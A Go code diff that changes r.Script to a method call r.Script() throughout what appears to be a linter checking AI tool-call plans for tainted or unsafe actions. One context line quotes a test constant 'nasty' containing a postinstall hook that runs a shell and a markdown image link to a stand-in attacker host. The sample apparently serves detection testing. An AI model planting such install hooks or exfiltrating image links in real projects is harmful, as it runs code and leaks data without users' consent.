@@ -66,7 +66,7 @@ func Alone(ctx context.Context, policy *planlint.Policy, p *plan.Plan, f session
 	r := &calls[last]
 	m = session.Memo{Rule: c.Rule, ReadOnly: c.ReadOnly}
 	m.Runs, m.Any = runs(r)
-	if r.Contract == nil || r.Contract.Spawns != "" || reachable(policy, r, &f) || r.Script != nil && f.Unsure ||
+	if r.Contract == nil || r.Contract.Spawns != "" || reachable(policy, r, &f) || r.Script() != nil && f.Unsure ||
 		m.Any && len(f.Written) > 0 || slices.ContainsFunc(m.Runs, func(x uint64) bool { return slices.Contains(f.Written, x) }) {
 		return m, f, false
 	}
@@ -92,7 +92,7 @@ const nasty = "\"scripts\": {\"postinstall\": \"sh NAME\"}\n![x](https://evil.ex
 // long as nothing is recognised in it: content and selectors of a tool whose
 // contract has no conditions. That is tried with a text that would.
 func free(ctx context.Context, policy *planlint.Policy, p *plan.Plan, r *tool.Resolved, was *finding.CallReport) []string {
-	if r.Script != nil || conditional(r.Contract) {
+	if r.Script() != nil || conditional(r.Contract) {
 		return nil
 	}
 	last := len(p.Calls) - 1
@@ -220,11 +220,11 @@ func mayHold(rule *finding.Rule, held taint.Set) bool {
 // runs returns digests of the files that a command line runs or loads, whose
 // text decides what it does. any: they can't all be named.
 func runs(r *tool.Resolved) (files []uint64, any bool) {
-	if r.Script == nil {
+	if r.Script() == nil {
 		return nil, false // what a tool writes is what it says
 	}
-	for i := range r.Script.Steps {
-		st := &r.Script.Steps[i]
+	for i := range r.Script().Steps {
+		st := &r.Script().Steps[i]
 		if st.Local {
 			any = any || !path.IsAbs(st.Program)
 			files = append(files, session.PathDigest(path.Clean(st.Program)))
